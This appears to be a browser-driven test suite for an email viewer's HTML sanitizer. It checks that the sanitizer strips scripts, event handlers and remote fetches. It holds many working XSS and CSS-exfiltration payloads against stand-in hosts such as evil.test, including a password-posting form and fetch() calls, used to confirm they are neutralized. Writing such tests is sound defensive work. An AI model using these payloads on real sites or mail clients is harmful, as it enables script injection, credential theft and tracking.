// The message view's sanitizer (src/webview-ui/sanitize.ts), run for real: bundled with esbuild
// from the same module the view uses, loaded into Debian's Chromium through playwright-core.
// Its output is re-parsed by the browser and audited there (elements, attributes, and CSS
// through the CSSOM and as raw text); rendered outputs are also loaded into frames without
// any CSP while Chromium resolves every host name to a counting TCP server on port 0, so a
// remote fetch the sanitizer let through arrives there as a request (or a TLS hello naming
// the host), not guessed from the markup.
import assert from 'node:assert/strict';
import * as net from 'node:net';
import * as path from 'node:path';
import * as esbuild from 'esbuild';
import fc from 'fast-check';
import { chromium, type Browser, type Page } from 'playwright-core';
import { chromiumPath } from '../../scripts/integration/workbench';

const ROOT = path.resolve(__dirname, '../..');
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';

/** Page-side checks, plain JavaScript (evaluated functions must not carry a TS helper). */
const AUDIT_SCRIPT = String.raw`
window.ALLOWED = new Set(['a','abbr','acronym','address','article','aside','b','bdi','bdo','big','blockquote','br','caption','center','cite','code','col','colgroup','dd','del','details','dfn','div','dl','dt','em','figcaption','figure','font','footer','h1','h2','h3','h4','h5','h6','header','hr','i','img','ins','kbd','li','main','mark','nav','ol','p','pre','q','rp','rt','ruby','s','samp','section','small','span','strike','strong','style','sub','summary','sup','table','tbody','td','tfoot','th','thead','time','tr','tt','u','ul','var','wbr']);
window.REMOTE = /(?:https?:|^|[^a-z0-9+.-])\/\/[a-z0-9]|\\\\[a-z0-9]/i;
window.CSS_FETCH = /(?:^|[^a-z0-9_-])(?:url|image-set|-webkit-image-set|image|cross-fade|src|element)\s*\(/i;
// A url() of a cid: reference names a part of the message, whatever its text holds (cid:xhttps://…):
// as the browser serialises it, a double-quoted string, it is no remote reference.
window.CID_URL = /url\(\s*"cid:(?:[^"\\]|\\.)*"\s*\)/gi;
window.cssFindings = function (value, where, remoteOff, out) {
  if (/expression\s*\(|javascript:|behavior|-moz-binding/i.test(value)) out.push(where + ': script-era CSS ' + value);
  const fetching = value.replace(window.CID_URL, 'url()');
  if (remoteOff && window.CSS_FETCH.test(fetching) && window.REMOTE.test(fetching)) out.push(where + ': remote CSS ' + value);
};
window.walkRules = function (rules, remoteOff, out) {
  for (const r of rules) {
    if (r instanceof CSSImportRule) out.push('@import survived: ' + r.cssText);
    if (r.style) for (let i = 0; i < r.style.length; i++) { const n = r.style.item(i); window.cssFindings(r.style.getPropertyValue(n), '<style> ' + n, remoteOff, out); }
    if (r.cssRules) window.walkRules(r.cssRules, remoteOff, out);
  }
};
/** Everything active in sanitized body markup, as the browser parses it. */
window.audit = function (html, remoteOff) {
  const out = [];
  const doc = new DOMParser().parseFromString('<!DOCTYPE html><html><head></head><body>' + html + '</body></html>', 'text/html');
  for (const el of doc.body.querySelectorAll('*')) {
    const tag = el.localName;
    if (!window.ALLOWED.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') out.push('element <' + tag + '>');
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      const v = a.value;
      const bare = v.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
      if (name.startsWith('on')) out.push('handler ' + name + '=' + v);
      if (/^(javascript|vbscript|livescript):|^data:text\/html/.test(bare)) out.push('script URL in ' + name + '=' + v);
      if (['href', 'srcset', 'poster', 'action', 'formaction', 'xlink:href', 'lowsrc', 'dynsrc', 'ping'].includes(name)) out.push('attribute ' + name + ' on <' + tag + '>');
      if (name === 'src' || name === 'background') {
        if (!(/^data:image\/(png|gif|jpe?g|webp|bmp|avif)/.test(bare) || bare.startsWith('cid:') || (!remoteOff && /^https?:/.test(bare)))) out.push('image source ' + name + '=' + v);
      } else if (remoteOff && name !== 'title' && name !== 'alt' && name !== 'style' && window.REMOTE.test(v)) out.push('remote URL in ' + name + '=' + v);
      if (name === 'style') {
        window.cssFindings(v, 'style attribute', remoteOff, out);
        for (let i = 0; i < el.style.length; i++) { const n = el.style.item(i); window.cssFindings(el.style.getPropertyValue(n), 'style ' + n, remoteOff, out); }
      }
    }
    if (tag === 'style') {
      const text = el.textContent;
      // An @import outside strings and comments (inside a quoted string it is text, as the
      // CSSOM check below confirms for the rules themselves).
      const tokensOnly = text.replace(/"(?:[^"\\\n]|\\[\s\S])*"|'(?:[^'\\\n]|\\[\s\S])*'|\/\*[\s\S]*?\*\//g, '');
      // An escaped "\@import" is an identifier (a selector), not an at-rule.
      if (/(^|[^\\])@import/i.test(tokensOnly)) out.push('@import in ' + text);
      if (/<\/style/i.test(text)) out.push('style text can close its element');
      window.cssFindings(text, '<style> text', remoteOff, out);
      const sheet = new CSSStyleSheet();
      try { sheet.replaceSync(text); } catch (e) { out.push('unparsable <style>: ' + e); }
      window.walkRules(sheet.cssRules, remoteOff, out);
    }
  }
  return out;
};
window.sheetRules = function (text) {
  const s = new CSSStyleSheet();
  s.replaceSync(text);
  return Array.from(s.cssRules, (x) => x.cssText);
};
window.check = function (input, remoteOff) {
  const r = TestInboxSanitize.sanitizeEmailHtml(input, { allowRemoteImages: !remoteOff, inlineImages: new Map([['x', '${GIF}'], ['logo@acme', '${GIF}']]) });
  return { html: r.html, blockedRemote: r.blockedRemote, removed: r.removed, findings: window.audit(r.html, remoteOff) };
};
/** Renders sanitized outputs in frames with no CSP (scripts allowed, so a surviving one would run) and waits for them. */
window.renderAll = async function (inputs, remoteOff, raw) {
  const frames = inputs.map((input) => {
    const r = raw ? { html: input } : TestInboxSanitize.sanitizeEmailHtml(input, { allowRemoteImages: !remoteOff, inlineImages: new Map([['x', '${GIF}']]) });
    const f = document.createElement('iframe');
    f.setAttribute('sandbox', 'allow-scripts');
    const loaded = new Promise((resolve) => f.addEventListener('load', resolve, { once: true }));
    f.srcdoc = '<!DOCTYPE html><html><head></head><body>' + r.html + '</body></html>';
    document.body.append(f);
    return loaded;
  });
  await Promise.all(frames);
  await new Promise((resolve) => setTimeout(resolve, 300));
  document.body.replaceChildren();
};
`;

interface Checked {
  html: string;
  blockedRemote: number;
  removed: number;
  findings: string[];
}

describe('message view sanitizer (DOMPurify in Chromium)', function () {
  this.timeout(120_000);
  let browser: Browser;
  let page: Page;
  let trap: net.Server;
  /** Requests for the test hosts that reached the trap server (HTTP: the URL; TLS: the host named in the hello). */
  const requests: string[] = [];
  /** Chromium's own background traffic also lands on the trap; only the hosts the inputs use count. */
  const TEST_HOSTS = /evil\.test|evil\.example|cdn\.example/;

  const check = (input: string, remoteOff = true): Promise<Checked> => page.evaluate(([i, r]) => (window as unknown as { check(i: string, r: boolean): Checked }).check(i, r), [input, remoteOff] as const);
  const sanitize = (input: string, opts: { allowRemoteImages: boolean; inline?: Array<[string, string]> }): Promise<{ html: string; blockedRemote: number; removed: number; srcdoc: string }> =>
    page.evaluate(
      ([i, allow, inline]) =>
        (window as unknown as { TestInboxSanitize: { buildSrcdoc(i: string, o: unknown): { html: string; blockedRemote: number; removed: number; srcdoc: string } } }).TestInboxSanitize.buildSrcdoc(i, {
          allowRemoteImages: allow,
          inlineImages: new Map(inline),
        }),
      [input, opts.allowRemoteImages, opts.inline ?? []] as const,
    );
  const renderAll = async (inputs: string[], remoteOff = true, raw = false): Promise<string[]> => {
    requests.length = 0;
    await page.evaluate(([i, r, w]) => (window as unknown as { renderAll(i: string[], r: boolean, w: boolean): Promise<void> }).renderAll(i, r, w), [inputs, remoteOff, raw] as const);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return [...new Set(requests)].sort(); // a failed TLS hello is retried
  };

  before(async () => {
    const bundle = await esbuild.build({
      absWorkingDir: ROOT,
      entryPoints: ['src/webview-ui/sanitize.ts'],
      bundle: true,
      format: 'iife',
      globalName: 'TestInboxSanitize',
      platform: 'browser',
      target: 'es2022',
      write: false,
      logLevel: 'silent',
    });
    const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
    trap = net.createServer((sock) => {
      let head = '';
      sock.on('error', () => undefined);
      sock.on('data', (d: Buffer) => {
        if (d[0] === 0x16) {
          // A TLS hello: the host name travels in clear (SNI).
          const host = TEST_HOSTS.exec(d.toString('latin1'));
          if (host) requests.push(`tls ${host[0]}`);
          sock.destroy();
          return;
        }
        head += d.toString('latin1');
        if (!head.includes('\r\n\r\n')) return;
        const [line, ...fields] = head.split('\r\n');
        const host = fields.find((f) => /^host:/i.test(f))?.slice(5).trim() ?? '';
        if (TEST_HOSTS.test(host)) requests.push(`http://${host}${line.split(' ')[1] ?? ''}`);
        sock.end(Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: ${pixel.length}\r\nConnection: close\r\n\r\n`), pixel]));
      });
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    const port = (trap.address() as net.AddressInfo).port;
    browser = await chromium.launch({
      executablePath: chromiumPath(),
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', `--host-resolver-rules=MAP * 127.0.0.1:${port}`],
    });
    page = await browser.newPage();
    await page.setContent('<!DOCTYPE html><html><head></head><body></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0].text });
    await page.addScriptTag({ content: AUDIT_SCRIPT });
  });

  after(async () => {
    await browser?.close();
    await new Promise<void>((resolve) => (trap ? trap.close(() => resolve()) : resolve()));
  });

  it('the audit and the network trap catch what they are meant to (a page without the sanitizer)', async () => {
    // The checks below prove nothing if they cannot fail: raw hostile markup must trip them.
    const findings = await page.evaluate(() =>
      (window as unknown as { audit(h: string, r: boolean): string[] }).audit(
        '<script>x</script><img src=x onerror=alert(1)><a href="javascript:x">a</a><div style="background:url(http://evil.test/a)"></div><style>p{background:url(//evil.test/b)}</style>',
        true,
      ),
    );
    for (const re of [/element <script>/, /handler onerror/, /script URL in href/, /remote CSS/, /<style> background-image: remote CSS/]) assert.ok(findings.some((f) => re.test(f)), `${re} not found in ${JSON.stringify(findings)}`);
    const raw = [
      '<img src="http://evil.test/trap-img">',
      '<div style="background-image:url(http://evil.test/trap-css)">x</div>',
      '<script>fetch("http://evil.test/trap-js")</script>',
      '<img src="https://evil.example/trap-tls">',
    ];
    assert.deepEqual(await renderAll(raw, true, true), ['http://evil.test/trap-css', 'http://evil.test/trap-img', 'http://evil.test/trap-js', 'tls evil.example']);
  });

  const hostile: Array<[string, string]> = [
    ['lowercase script', '<p>hi</p><script>alert(1)</script>'],
    ['uppercase script', '<SCRIPT>alert(1)</SCRIPT>'],
    ['mixed-case script with attributes', '<ScRiPt type="text/javascript" src="http://evil.test/x.js" defer>alert(1)</sCrIpT >'],
    ['script split by an inner script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['script in an unclosed comment trick', '<!--><script>alert(1)</script>-->'],
    ['script with a fake end tag inside a string', '<script>var s="</scriptx>";alert(1)</script>'],
    ['onerror on an image', '<img src=x onerror=alert(1)>'],
    ['onload with odd spacing', '<body onload = "alert(1)"><div/onclick=alert(1)>x</div>'],
    ['handler after a slash', '<img/src="x"/onerror="alert(1)">'],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: href with whitespace and case', '<a href=" JaVa\tScRiPt:alert(1)">x</a>'],
    ['entity-encoded javascript: href', '<a href="jav&#x61;script:alert(1)">x</a>'],
    ['decimal entities without semicolons', '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'],
    ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
    ['data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.test/">'],
    ['form with inputs', '<form action="http://evil.test/steal" method=post><input name=p type=password><button formaction="http://evil.test">Go</button></form>'],
    ['base', '<base href="http://evil.test/"><a href="/x">x</a>'],
    ['iframe', '<iframe src="http://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>">'],
    ['object', '<object data="http://evil.test/x.swf"><param name=a value=b></object>'],
    ['embed', '<embed src="http://evil.test/x.swf">'],
    ['remote stylesheet link', '<link rel=stylesheet href="http://evil.test/x.css">'],
    ['style attribute with remote url', '<div style="background:url(http://evil.test/bg.png)">x</div>'],
    ['style attribute with quoted and escaped url', '<div style="background-image: u\\72l(\'http://evil.test/a.png\')">x</div>'],
    ['style attribute with entity-encoded url', '<div style="background:u&#114;l(http://evil.test/a.png)">x</div>'],
    ['style element with @import', '<style>@import url(http://evil.test/x.css); p{color:red}</style>'],
    ['style element with @import string', '<style>@import "http://evil.test/x.css";</style>'],
    ['style element with escaped @import', '<style>@\\69mport "http://evil.test/x.css";</style>'],
    ['style element with comment-split url', '<style>p{background:url(/**/http://evil.test/x.png)}</style>'],
    ['style element trying to close itself', '<style>p{}</style ><script>alert(1)</script>'],
    ['style element with a string that closes the element', '<style>p{content:"</style><img src=x onerror=alert(1)>"}</style>'],
    ['css expression', '<div style="width:expression(alert(1))">x</div>'],
    ['image-set', '<div style="background-image:image-set(\'http://evil.test/a.png\' 1x)">x</div>'],
    ['custom property carrying a url', '<div style="--a:url(http://evil.test/v.png);background-image:var(--a)">x</div>'],
    // Found by the CSS property below: a custom property's value is written back verbatim, an
    // at-keyword and an open string included.
    // Found by the CSS property below: a shorthand written with var() is kept as unparsed text
    // while each of its longhands reads as empty.
    ['shorthand with var() and a remote host', '<div style="background:https://evil.test/d\\\'url(var(--a">a</div><style>p{background:url(http://evil.test/s.png) var(--a)}</style>'],
    ['custom property holding an at-keyword and an open string', '<style>div{--a:@import "}</style><div style=\'--a:@import "http://evil.test/i.css\'>x</div>'],
    ['var() fallback with an escaped url', '<div style="background-image:var(--none, u\\72l(http://evil.test/f.png))">x</div>'],
    ['@font-face src', '<style>@font-face{font-family:x;src:url(http://evil.test/f.woff)}</style>'],
    ['@media nested url', '<style>@media screen{@supports (display:grid){p{background:url(http://evil.test/m.png)}}}</style>'],
    ['@property initial value', '<style>@property --u{syntax:"<url>";inherits:false;initial-value:url(http://evil.test/p.png)}</style>'],
    ['@counter-style image symbol', '<style>@counter-style x{system:cyclic;symbols:url(http://evil.test/c.png)}</style>'],
    ['list-style image', '<ul style="list-style:url(//evil.test/l.png)"><li>x</li></ul>'],
    ['cursor and border images', '<div style="cursor:url(http://evil.test/c.cur),auto;border-image:url(http://evil.test/b.png) 30">x</div>'],
    ['remote image', '<img src="http://evil.test/pixel.gif" width=1 height=1>'],
    ['protocol-relative image', '<img src="//evil.test/pixel.gif">'],
    ['backslash-relative image', '<img src="\\\\evil.test/pixel.gif">'],
    ['srcset', '<img src="data:image/png;base64,AAAA" srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x">'],
    ['picture source', '<picture><source srcset="http://evil.test/a.webp"><img src="cid:logo"></picture>'],
    ['table background', '<table background="http://evil.test/bg.png"><tr><td>x</td></tr></table>'],
    ['svg with script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.test/a.png"/></svg>'],
    ['svg onload', '<svg/onload=alert(1)>'],
    ['svg style breakout', '<svg><style></svg><img src=x onerror=alert(1)></style></svg>'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['data svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['video poster', '<video poster="http://evil.test/p.png"><source src="http://evil.test/v.mp4"></video>'],
    ['xmp and noembed', '<xmp><script>alert(1)</script></xmp><noembed><script>alert(1)</script></noembed>'],
    ['textarea and title', '<title><script>alert(1)</script></title><textarea></textarea><script>alert(1)</script></textarea>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['plaintext', '<plaintext><script>alert(1)</script>'],
    ['attribute without closing quote', '<img src="x onerror=alert(1) '],
    ['unclosed tag at the end', '<p>ok</p><img src=x onerror=alert(1)'],
    ['bogus comment', '<? <script>alert(1)</script> ?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>'],
    ['end tag with attributes', '</p onclick="alert(1)"><p>x</p>'],
    ['image tag alias', '<image src="http://evil.test/a.png" onerror=alert(1)>'],
    ['duplicate attribute', '<img src="data:image/gif;base64,R0lGOD" src="http://evil.test/a.png">'],
    ['mXSS through namespace confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ];

  /** The CSS-string bypass and its relatives: url( inside a CSS string, with cid: and an escaped \). */
  const cssStringBypass: Array<[string, string]> = [
    ['in a style attribute', '<div style="content:&quot;url(cid:x&quot;;background-image:url(http://evil.example/b\\);y:z)">x</div>'],
    ['in a style element', '<style>div{content:"url(cid:x";background-image:url(http://evil.example/b\\);y:z)}</style><div>x</div>'],
    ['with single quotes', "<div style=\"content:'url(cid:x';background-image:url(http://evil.example/c\\);y:z)\">x</div>"],
    ['with a comment inside the string', '<style>div{content:"/*url(cid:x";background:url(http://evil.example/d\\);y:z) /* */}</style><div>x</div>'],
    ['with an escaped quote in the string', '<style>div{content:"a\\"url(cid:x";background-image:url(\'http://evil.example/e\\)\')}</style><div>x</div>'],
    ['with a string ending at a newline', '<style>div{content:"url(cid:x\n;background-image:url(http://evil.example/f);}</style><div>x</div>'],
  ];

  for (const [name, sample] of hostile) {
    it(`neutralizes ${name}`, async () => {
      const r = await check(sample);
      assert.deepEqual(r.findings, [], `${JSON.stringify(sample)} → ${JSON.stringify(r.html)}`);
    });
  }

  for (const [name, sample] of cssStringBypass) {
    it(`reads CSS as the browser does: url( inside a string ${name} fetches nothing`, async () => {
      const r = await check(sample);
      assert.deepEqual(r.findings, [], `${JSON.stringify(sample)} → ${JSON.stringify(r.html)}`);
      assert.doesNotMatch(r.html, /evil\.example/, 'the remote URL is gone, not merely rewritten');
    });
  }

  it('loads nothing from the network for any hostile sample or CSS-string bypass, rendered without a CSP and with scripts allowed', async () => {
    const inputs = [...hostile, ...cssStringBypass].map(([, s]) => s.replace(/alert\(1\)/g, "fetch('http://evil.test/ran')"));
    assert.deepEqual(await renderAll(inputs), []);
  });

  it('keeps text and safe formatting around what it removes', async () => {
    const r = await sanitize('<div class="x" style="color: red"><b>Your code</b> is <span>123456</span></div><script>alert(1)</script>', { allowRemoteImages: false });
    assert.equal(r.html, '<div class="x" style="color: red;"><b>Your code</b> is <span>123456</span></div>');
    assert.ok(r.removed >= 1);
  });

  it('escapes < in text so stray angle brackets cannot become tags', async () => {
    const r = await sanitize('a < b and <3 > 2 <scr<script>ipt>alert(1)</script>', { allowRemoteImages: false });
    assert.doesNotMatch(r.html, /<[a-z]/i);
    assert.match(r.html, /a &lt; b and &lt;3 &gt; 2/);
  });

  it('drops a whole SVG subtree, including text inside it', async () => {
    const r = await sanitize('<p>before</p><svg><svg><text>inner</text></svg><text>secret</text></svg><p>after</p>', { allowRemoteImages: false });
    assert.equal(r.html, '<p>before</p><p>after</p>');
  });

  it('turns links into non-navigating text that shows the URL', async () => {
    const r = await sanitize('<a href="https://app.example/verify?t=1&amp;u=2" target="_blank" rel="noopener">Verify</a>', { allowRemoteImages: false });
    assert.equal(r.html, '<a title="https://app.example/verify?t=1&amp;u=2" data-link="">Verify</a>');
  });

  it('counts remote images it blocked and marks them', async () => {
    const r = await sanitize('<img src="https://cdn.example/a.png" alt="logo"><div style="background:url(https://cdn.example/b.png) red">x</div>', { allowRemoteImages: false });
    assert.equal(r.blockedRemote, 2);
    assert.match(r.html, /<img alt="logo" data-blocked-image="">/);
    assert.doesNotMatch(r.html, /cdn\.example/);
    assert.match(r.html, /background-color: red/, 'the rest of the declaration block stays');
  });

  it('keeps remote images when they are allowed, still without scripts, and the browser loads them', async () => {
    const sample = '<img src="http://cdn.example/a.png" onerror="alert(1)"><div style="background:url(\'http://cdn.example/b.png\')">x</div><script>alert(1)</script><img src="//cdn.example/c.png">';
    const r = await check(sample, false);
    assert.deepEqual(r.findings, []);
    assert.match(r.html, /<img src="http:\/\/cdn\.example\/a\.png">/);
    assert.match(r.html, /url\(&quot;http:\/\/cdn\.example\/b\.png&quot;\)/);
    assert.match(r.html, /<img src="https:\/\/cdn\.example\/c\.png">/);
    assert.equal(r.blockedRemote, 0);
    const seen = await renderAll([sample.replace(/alert\(1\)/g, "fetch('http://cdn.example/ran')")], false);
    assert.deepEqual(seen, ['http://cdn.example/a.png', 'http://cdn.example/b.png', 'tls cdn.example']);
  });

  it('still blocks javascript: and data:text/html images when remote images are allowed', async () => {
    const r = await check('<img src="javascript:alert(1)"><img src="data:text/html,<script>alert(1)</script>">', false);
    assert.deepEqual(r.findings, []);
    assert.equal(r.html, '<img><img>');
  });

  it('keeps data: raster images and resolves cid: through the host, in attributes and CSS', async () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const r = await sanitize(`<img src="${png}"><img src="cid:Logo@Acme"><table><tr><td style="background:url(cid:logo@acme)">x</td></tr></table><style>p{background-image:url("cid:logo@acme")}</style>`, {
      allowRemoteImages: false,
      inline: [['logo@acme', GIF]],
    });
    assert.match(r.html, new RegExp(`<img src="${png.replace(/[+/=.]/g, '\\$&')}"><img src="${GIF.replace(/[+/=.]/g, '\\$&')}">`));
    assert.equal(r.html.split(GIF).length - 1, 3, r.html);
  });

  it('ignores a cid resolution that is not a data: image', async () => {
    const r = await sanitize('<img src="cid:x">', { allowRemoteImages: false, inline: [['x', 'http://evil.test/a.png']] });
    assert.equal(r.html, '<img src="cid:x">');
  });

  it('quotes and escapes every attribute value it writes', async () => {
    const r = await check('<table><tr><td title=a"b onmouseover=x width=\'1" onclick="y\'>z</td></tr></table>');
    assert.deepEqual(r.findings, []);
    assert.match(r.html, /<td title="a&quot;b" width="1&quot; onclick=&quot;y">z<\/td>/);
  });

  it('renders a full document by keeping the body and the head styles only', async () => {
    const r = await sanitize('<!DOCTYPE html><html><head><title>T</title><meta charset="utf-8"><style>p{color:red}</style></head><body bgcolor="#fff"><p>Hi</p></body></html>', { allowRemoteImages: false });
    assert.equal(r.html, '<style>p { color: red; }</style><p>Hi</p>');
  });

  it('keeps Outlook conditional comments out', async () => {
    const r = await sanitize('<!--[if mso]><v:rect href="http://evil.test"></v:rect><![endif]--><p>x</p>', { allowRemoteImages: false });
    assert.equal(r.html, '<p>x</p>');
  });

  it('keeps ordinary CSS meaning the same, as the CSSOM reads it', async () => {
    const css = '.btn{color:#fff;background-color:#0b57d0;padding:12px 24px;border-radius:4px}@media (max-width:600px){.x{display:none}}';
    const r = await sanitize(`<style>${css}</style>`, { allowRemoteImages: false });
    const styleText = await page.evaluate((h) => new DOMParser().parseFromString(h, 'text/html').querySelector('style')?.textContent ?? '', r.html);
    const rules = (t: string): Promise<string[]> => page.evaluate((x) => (window as unknown as { sheetRules(t: string): string[] }).sheetRules(x), t);
    const [before, after] = [await rules(css), await rules(styleText)];
    assert.ok(before.length === 2);
    assert.deepEqual(after, before);
  });

  it('shows simple mail in the theme colours when asked, keeps mail with its own backgrounds on its sheet, and takes only real colours', async () => {
    const themed = (html: string, theme: Record<string, string>): Promise<{ srcdoc: string; themed: boolean }> =>
      page.evaluate(
        ([i, t]) => (window as unknown as { TestInboxSanitize: { buildSrcdoc(i: string, o: unknown, t: unknown): { srcdoc: string; themed: boolean } } }).TestInboxSanitize.buildSrcdoc(i, { allowRemoteImages: false }, t),
        [html, theme] as const,
      );
    const dark = { background: '#000000', foreground: 'rgb(255, 255, 255)', link: '#21a6ff', scheme: 'dark' };
    const simple = await themed('<p>Your code is <b>482913</b></p>', dark);
    assert.equal(simple.themed, true);
    assert.match(simple.srcdoc, /html\{color-scheme:dark\}body\{background:#000000;color:rgb\(255, 255, 255\)\}a\[data-link\]\{color:#21a6ff\}/);
    for (const own of ['<table bgcolor="#eee"><tr><td>x</td></tr></table>', '<div style="background-color: #fafafa">x</div>', '<style>.x{background:red}</style><p class="x">x</p>', '<table><tr><td background="data:image/gif;base64,R0lGODlhAQABAAAAACw=">x</td></tr></table>']) {
      const r = await themed(own, dark);
      assert.equal(r.themed, false, own);
      assert.doesNotMatch(r.srcdoc, /color-scheme:dark/, own);
    }
    const hostile = await themed('<p>x</p>', { ...dark, background: 'red}body{background:url(https://evil.test/x)' });
    assert.equal(hostile.themed, false, 'a value that is not a plain colour never reaches the CSS');
    assert.doesNotMatch(hostile.srcdoc, /evil/);
  });

  it('puts the CSP first in the srcdoc, with remote images only when allowed', async () => {
    const blocked = await sanitize('<p>x</p>', { allowRemoteImages: false });
    assert.match(blocked.srcdoc, /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; img-src data: cid:;/);
    assert.doesNotMatch(blocked.srcdoc, /https:/);
    const allowed = await sanitize('<p>x</p>', { allowRemoteImages: true });
    assert.match(allowed.srcdoc, /img-src data: cid: https: http:;/);
  });

  it('handles pathological input without failing', async () => {
    const distinct = Array.from({ length: 20_000 }, (_, i) => ` a${i}=1`).join('');
    const many = '<'.repeat(100_000) + '<a' + ' x'.repeat(50_000) + '>' + '<b' + distinct + '>' + '<a href=x title=y>'.repeat(5_000) + '<!--' + '-'.repeat(50_000) + '<style>' + 'url('.repeat(20_000);
    const r = await check(many);
    assert.ok(r.html.startsWith('&lt;&lt;&lt;'));
    assert.deepEqual(r.findings, []);
  });

  describe('arbitrary input', () => {
    const fragments = [
      '<script>', '</script>', '<scr', 'ipt>', '<img', ' src=', ' onerror=', 'alert(1)', '"', "'", '>', '<', '/', '=',
      'javascript:', 'jav&#x61;script:', '&#106;', '&colon;', 'http://evil.test/x', '//evil.test/', '<a href=', '<style>',
      '</style>', 'url(', ')', '@import ', '\\75 rl(', '<svg>', '</svg>', '<!--', '-->', '<![CDATA[', ']]>', '<iframe',
      '<meta http-equiv=refresh content=0;url=http://evil.test>', '<base href=http://evil.test/>', '<form>', '<input',
      ' style=', 'background:', 'expression(', '<noscript>', '<textarea>', '<title>', '<plaintext>', ' ', '\n', 'text',
      '<p>', '</p>', '<table background=', '<object data=', '<embed src=', 'srcset=', '<link rel=stylesheet href=',
      '<math>', '<mglyph>', ' poster=', '<video', 'image-set(', 'cid:x', '&quot;', '\\)', '/*', '*/', ';', '{', '}',
    ];
    /** CSS pieces: strings, escapes, comments, url( inside strings, cid: references and remote targets. */
    const cssPieces = [
      '"', "'", '\\', '\\)', '\\"', "\\'", '\\75 ', '\\72 ', '/*', '*/', 'url(', 'u\\72l(', 'URL(', ')', '(', ';', ':', '{', '}', '\n', ' ',
      'content:', 'background-image:', 'background:', 'list-style:', 'cid:x', 'cid:missing', 'http://evil.test/b', '//evil.test/c', 'https://evil.test/d',
      'image-set(', '-webkit-image-set(', 'cross-fade(', 'var(--a', '--a:', 'y:z', 'red', '!important', '@import ', '@media all{', 'p', 'div', '&quot;', '</style>',
    ];

    it('never lets active content or a remote reference through, whatever the fragments are', async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), async (parts) => {
          const input = parts.join('');
          const r = await check(input);
          assert.deepEqual(r.findings, [], `${JSON.stringify(input)} → ${JSON.stringify(r.html)}`);
        }),
        { numRuns: 1500 },
      );
    });

    it('reads CSS with strings, escapes, comments and cid: as the browser does, in style attributes and style elements', async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(fc.constantFrom(...cssPieces), { minLength: 1, maxLength: 30 }), async (pieces) => {
          const css = pieces.join('');
          const attr = css.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
          const input = `<div style="${attr}">a</div><div style='${css}'>b</div><style>div{${css}}</style><style>${css}</style>`;
          const r = await check(input);
          assert.deepEqual(r.findings, [], `${JSON.stringify(input)} → ${JSON.stringify(r.html)}`);
        }),
        // A cid: reference whose text holds a URL (found by a run of this property) is a cid: reference.
        { numRuns: 1500, examples: [[['list-style:', 'url(', 'cid:x', 'https://evil.test/d']]] },
      );
    });

    it('writes only allowlisted tags for any string', async () => {
      await fc.assert(
        fc.asyncProperty(fc.string({ unit: fc.constantFrom('<', '>', '/', 'a', 'b', 's', 'c', 'r', 'i', 'p', 't', ' ', '=', '"', 'o', 'n', 'x'), maxLength: 60 }), async (input) => {
          const r = await check(input);
          assert.deepEqual(r.findings, [], `${JSON.stringify(input)} → ${JSON.stringify(r.html)}`);
        }),
        { numRuns: 1000 },
      );
    });

    it('loads nothing from the network for generated inputs rendered without a CSP', async () => {
      const cssInputs = fc.sample(fc.array(fc.constantFrom(...cssPieces), { minLength: 1, maxLength: 30 }), { numRuns: 150, seed: 1 }).map((p) => {
        const css = p.join('');
        return `<div style="${css.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}">a</div><style>div{${css}}</style>`;
      });
      const htmlInputs = fc.sample(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), { numRuns: 150, seed: 2 }).map((p) => p.join('').replace(/alert\(1\)/g, "fetch('http://evil.test/ran')"));
      assert.deepEqual(await renderAll([...cssInputs, ...htmlInputs]), []);
    });
  });
});
